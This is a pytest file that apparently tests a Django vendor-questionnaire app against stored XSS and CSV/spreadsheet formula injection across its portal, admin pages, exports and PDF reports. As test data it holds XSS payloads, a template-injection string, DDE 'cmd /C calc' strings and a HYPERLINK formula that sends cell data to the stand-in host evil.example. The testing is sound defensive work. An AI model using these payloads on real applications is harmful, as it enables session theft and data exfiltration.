"""Stored XSS and injection: what vendors type (answers, comments, file names) and what
analysts type about them (vendor, product and contact names) stays inert everywhere it
is shown: the portal, the admin's pages, the CSV and XLSX exports, and the PDFs.

The vendor's part goes in through the portal as a vendor would send it. Each page is
parsed: no payload may come out as an element, an attribute or a script, and on the
pages that show answers whole the payload must be there as text.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from html.parser import HTMLParser

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook
from pypdf import PdfReader

from questionnaires.exports import FORMULA_TRIGGERS
from questionnaires.models import Evidence, Response, ResponseStatus
from questionnaires.reports.render import render_report
from questionnaires.reports.subject import report_subject
from tests.factories import (
    ContactFactory,
    SelectionFactory,
    UserFactory,
    VendorFactory,
    scored_submission,
)
from tests.vendors.helpers import link_for, url

from .conftest import AS_SCRIPT

MARK = "xss"
HTML_PAYLOADS = [
    f'<script>alert("{MARK}1")</script>',
    f'"><img src=x onerror=alert("{MARK}2")>',
    f"'><svg/onload=alert('{MARK}3')>",
    f'javascript:alert("{MARK}4")',
    f"</textarea><iframe src=javascript:alert('{MARK}5')></iframe>",
    "{{ request.META }}{% now 'Y' %}",
]
TEXT_PAYLOAD = " ".join(HTML_PAYLOADS)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    '+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",  # a full-width equals sign
    'notes;=cmd|" /C calc"!A0',  # a second cell, where the list separator is ";"
    "notes\n@SUM(1)",
]
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


class LiveMarkup(HTMLParser):
    """Collects what a page would run or load: script and style text, event-handler
    attributes, javascript: URLs, and any element or attribute holding the marker."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        if MARK in tag:
            self.found.append(f"element <{tag}>")
        if tag in ("script", "style"):
            self._in_script = True
        for name, value in attrs:
            if MARK in name or name.startswith("on"):
                self.found.append(f"<{tag} {name}={value!r}>")
            if value and re.match(r"\s*javascript:", value, re.I):
                self.found.append(f"<{tag} {name}={value!r}>")
            # Vendor text may sit in a few attributes, escaped; never in any other.
            if value and MARK in value and name not in ("title", "aria-label", "value"):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and MARK in data:
            self.found.append(f"script text {data!r}")
        self.text.append(data)


def live_markup(html: str) -> tuple[list[str], str]:
    parser = LiveMarkup()
    parser.feed(html)
    return parser.found, "".join(parser.text)


def assert_inert(html: str, where: str, *, shows_whole: bool = False) -> None:
    found, text = live_markup(html)
    assert found == [], where
    for raw in ("<script>alert", "<img src=x onerror", "<svg/onload", "<iframe src=javascript"):
        assert raw not in html, where
    if shows_whole:
        assert HTML_PAYLOADS[0] in text, where
        assert HTML_PAYLOADS[1] in text, where


# The data, as vendors and analysts send it ------------------------------------------------


@pytest.fixture
def world(client, example_version):
    """A vendor whose every answer and comment carries payloads, sent through the portal
    and submitted; a second vendor with formula payloads; a selection of both."""
    vendor = VendorFactory(name=f'Acme <script>alert("{MARK}n")</script>', product=HTML_PAYLOADS[1])
    response = Response.objects.create(
        version=example_version,
        vendor=vendor,
        status=ResponseStatus.IN_PROGRESS,
        due_date="2099-01-01",
    )
    contact = ContactFactory(vendor=vendor, name=HTML_PAYLOADS[2], email="dana@acme.example")
    token, _ = link_for(response, contact=contact)
    values = {
        "live_deployments": "12",
        "rollback_rate": "8",
        "rollback_reasons": ["cost"],
        "live_monitoring": "none",
        "human_approval_money": "no",
        "kill_switch_owner": TEXT_PAYLOAD,
        "monitoring_report": None,
    }
    for key, value in values.items():
        data = {f"{key}-revision": 0, f"{key}-comment": TEXT_PAYLOAD}
        if value is not None:
            data[key] = value
        reply = client.post(url("autosave", token, key), data, **AS_SCRIPT)
        assert reply.json()["status"] == "saved", (key, reply.json())
    hostile_name = f'<img src=x onerror=alert("{MARK}f")>.pdf'
    for key in ("rollback_rate", "monitoring_report"):
        client.post(
            url("evidence", token, key),
            {f"{key}-evidence": SimpleUploadedFile(hostile_name, PDF)},
            **AS_SCRIPT,
        )
    pages = {
        "overview": client.get(url("overview", token)),
        "track_record": client.get(url("section", token, "track_record")),
        "oversight": client.get(url("section", token, "oversight")),
        "submit": client.get(url("submit", token)),
    }
    assert client.post(url("submit", token), {"confirm": "yes"}).status_code == 302
    pages["sent"] = client.get(url("sent", token))

    formulas = scored_submission(
        example_version,
        FORMULAS[3],
        {
            "live_deployments": 3,
            "live_monitoring": "sampled",
            "human_approval_money": "yes",
            "kill_switch_owner": FORMULAS[0],
        },
    )
    formulas.vendor.product = FORMULAS[2]
    formulas.vendor.save(update_fields=["product"])
    comments = [FORMULAS[6], FORMULAS[7], FORMULAS[4], FORMULAS[5]]
    for comment, answer in zip(comments, formulas.answers.order_by("pk"), strict=True):
        answer.comment = comment
        answer.save(update_fields=["comment"])
    selection = SelectionFactory(name=HTML_PAYLOADS[0], buyer_name=FORMULAS[1])
    selection.responses.add(response, formulas)
    response.refresh_from_db()
    return {"pages": pages, "response": response, "formulas": formulas, "selection": selection}


def test_the_vendors_payloads_were_stored_as_sent(world):
    answers = dict(world["response"].answers.values_list("question__key", "comment"))
    assert set(answers.values()) == {TEXT_PAYLOAD}
    assert world["response"].status == ResponseStatus.SUBMITTED
    names = set(Evidence.objects.values_list("original_name", flat=True))
    assert names == {"img-src-x-onerror-alert-xssf.pdf"}


def test_portal_pages_show_payloads_as_text(world):
    for name, page in world["pages"].items():
        assert page.status_code == 200, name
        whole = name not in ("overview", "submit")
        assert_inert(page.content.decode(), f"portal {name}", shows_whole=whole)


def test_admin_pages_show_payloads_as_text(client, world):
    client.force_login(UserFactory(is_superuser=True))
    response, formulas, selection = world["response"], world["formulas"], world["selection"]
    ids = f"{response.pk},{formulas.pk}"
    pages = {
        "response": (f"/admin/questionnaires/response/{response.pk}/change/", True),
        "responses": ("/admin/questionnaires/response/", False),
        "compare": (f"/admin/questionnaires/response/compare/?ids={ids}", True),
        "compare-all": (f"/admin/questionnaires/response/compare/?ids={ids}&only=flagged", False),
        "selection": (f"/admin/questionnaires/selection/{selection.pk}/change/", False),
        "selection-compare": (f"/admin/questionnaires/selection/{selection.pk}/compare/", True),
        "selections": ("/admin/questionnaires/selection/", False),
        "evidence": ("/admin/questionnaires/evidence/", False),
        "audit": ("/admin/questionnaires/auditevent/", False),
        "vendors": ("/admin/vendors/vendor/", False),
        "vendor": (f"/admin/vendors/vendor/{response.vendor_id}/change/", False),
        "links": ("/admin/vendors/accesslink/", False),
        "scores": ("/admin/questionnaires/responsescore/", False),
    }
    for name, (address, whole) in pages.items():
        page = client.get(address)
        assert page.status_code == 200, name
        assert_inert(page.content.decode(), f"admin {name}", shows_whole=whole)


# Exports -------------------------------------------------------------------------------------


PLAIN_NUMBER = re.compile(r"-?[0-9][0-9,]*(\.[0-9]+)?%?")


def _runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)


def _export(client, selection, **params):
    query = "&".join(f"{k}={v}" for k, v in params.items())
    reply = client.get(f"/admin/questionnaires/selection/{selection.pk}/compare/export/?{query}")
    assert reply.status_code == 200
    assert reply["Content-Disposition"].startswith("attachment;")
    assert reply["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in reply["Content-Security-Policy"]
    return reply.content


@pytest.mark.parametrize("part", ["answers", "summary", "matrix"])
def test_csv_exports_run_no_formula_in_comma_or_semicolon_locales(client, world, part):
    client.force_login(UserFactory(is_superuser=True))
    data = _export(client, world["selection"], format="csv", part=part).decode("utf-8-sig")

    comma = list(csv.reader(io.StringIO(data)))
    # Where the list separator is ";", the same line splits at every semicolon.
    semicolon = list(csv.reader(io.StringIO(data), delimiter=";"))
    lines = [[line] for line in data.splitlines()]
    for reading in (comma, semicolon, lines):
        cells = [cell for row in reading for cell in row]
        assert not [c for c in cells if _runs_as_formula(c)]
    # The text is there, only inert.
    assert ["'" + FORMULAS[3]] == [row[0] for row in comma if FORMULAS[3] in row[0]][:1]
    if part in ("answers", "matrix"):
        assert "'" + FORMULAS[0] in {cell for row in comma for cell in row}
        assert any(cell == "12" for row in comma for cell in row)


def test_csv_keeps_numbers_and_negative_number_text_as_numbers():
    from questionnaires.exports import csv_safe

    assert [csv_safe(v) for v in (-3.5, 0, "-3.5", "-1,200", "-12%", "12")] == [
        -3.5,
        0,
        "-3.5",
        "-1,200",
        "-12%",
        "12",
    ]
    assert [csv_safe(v) for v in ("-3.5+A1", "x;-1+1", 'x;"=1')] == [
        "'-3.5+A1",
        "x;'-1+1",
        "x;\"'=1",
    ]


def test_xlsx_export_holds_no_formula_and_marks_formula_like_text(client, world):
    client.force_login(UserFactory(is_superuser=True))
    data = _export(client, world["selection"], format="xlsx")

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            xml = package.read(name)
            assert b"<f>" not in xml and b"<f " not in xml, name
        assert not [n for n in package.namelist() if "externalLink" in n]
    workbook = load_workbook(io.BytesIO(data))
    formula_like = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)
    ]
    assert {c.value for c in formula_like} >= {FORMULAS[0], FORMULAS[3]}
    assert all(c.data_type == "s" and c.quotePrefix for c in formula_like)


# PDFs ----------------------------------------------------------------------------------------


def _links_and_actions(pdf: bytes) -> list[str]:
    reader = PdfReader(io.BytesIO(pdf))
    found = []
    root = reader.trailer["/Root"]
    for key in ("/OpenAction", "/AA"):
        if key in root:
            found.append(f"catalog {key}")
    if "/JavaScript" in (root.get("/Names") or {}):
        found.append("document JavaScript")
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A") or {}
            if action.get("/S") in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData"):
                found.append(str(action.get("/S")))
            uri = str(action.get("/URI", ""))
            if uri and not uri.startswith(("https://www.nist.gov/", "#")):
                found.append(uri)
    return found


@pytest.mark.parametrize("kind", ["assessment", "comparison"])
def test_pdf_reports_print_payloads_as_text_with_no_link_or_script_from_them(world, kind):
    if kind == "assessment":
        subject = report_subject(kind=kind, response=world["response"])
    else:
        subject = report_subject(kind=kind, selection=world["selection"])

    rendered = render_report(subject)

    assert_inert(rendered.html, f"{kind} html")
    _, text = live_markup(rendered.html)
    assert HTML_PAYLOADS[0] in text
    assert _links_and_actions(rendered.pdf) == []
    for marker in (b"/JavaScript", b"/JS ", b"/Launch", b"evil.example", b"javascript:"):
        assert marker not in rendered.pdf
